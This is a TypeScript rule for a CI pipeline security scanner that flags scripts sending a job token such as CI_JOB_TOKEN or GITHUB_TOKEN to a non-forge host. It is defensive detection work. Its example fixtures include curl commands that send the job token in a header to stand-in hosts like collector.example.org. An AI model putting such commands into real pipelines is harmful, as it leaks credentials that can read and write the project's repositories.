import type { Check } from "../check.ts";
import { type GivenSecret, secretsAmong } from "../shell/given.ts";

const forge = /(?:^|\.)(?:github\.com|githubusercontent\.com|ghcr\.io)(?::\d+)?$|git|localhost/;

const isJobToken = ({ name, secrecy }: GivenSecret): boolean =>
  [name, secrecy.kind === "bound" ? secrecy.secret : ""].some((each) =>
    /^(?:CI_JOB_TOKEN|CI_JOB_JWT\w*|GITHUB_TOKEN|ACTIONS_ID_TOKEN_REQUEST_TOKEN|github\.token|System\.?_?AccessToken)$/i.test(
      each,
    ),
  );

export const jobTokenElsewhere: Check = {
  id: "job-token-elsewhere",
  title: "Token of the job is sent to another host",
  looksAt: "script",
  severity: "high",
  confidence: "medium",
  why: "The token acts for the job: it reads and writes what the job may. No other host than the one that gave it needs it.",
  instead: "Give the other host a token of its own.",
  references: ["https://docs.gitlab.com/ci/jobs/ci_job_token/"],
  examples: {
    found: [
      {
        path: ".gitlab-ci.yml",
        text: `a:
  script:
    - >-
      curl -H "JOB-TOKEN: «$CI_JOB_TOKEN»" https://collector.example.org/x
`,
      },
      {
        path: ".github/workflows/a.yml",
        text: `on: push
jobs:
  a:
    steps:
      - run: |
          curl -H "Authorization: Bearer «\${{ secrets.GITHUB_TOKEN }}»" https://example.org/x
`,
      },
    ],
    ignored: [
      {
        path: ".gitlab-ci.yml",
        text: `a:
  script:
    - >-
      curl -H "JOB-TOKEN: $CI_JOB_TOKEN" "\${CI_API_V4_URL}/projects"
    - >-
      curl -H "JOB-TOKEN: $CI_JOB_TOKEN" https://gitlab.example.org/api/v4/x
`,
      },
      {
        path: ".github/workflows/a.yml",
        text: `on: push
jobs:
  a:
    steps:
      - run: |
          curl -H "Authorization: Bearer \${{ secrets.GITHUB_TOKEN }}" https://api.github.com/x
`,
      },
    ],
  },

  *run({ commands, secrecy, fragment: { source } }) {
    for (const { name, words } of commands) {
      if (!/^(?:curl|wget|http|https|nc)$/.test(name)) continue;
      const hosts = words.flatMap(
        ({ text }) => /^["']?https?:\/\/([^/"'$@]+)/.exec(text)?.[1] ?? [],
      );
      if (hosts.length === 0 || hosts.some((each) => forge.test(each))) continue;
      for (const secret of secretsAmong(words, secrecy))
        if (isJobToken(secret))
          yield {
            message: `sends the token of the job to ${hosts.join(", ")}`,
            source,
            at: secret.at,
          };
    }
  },
};
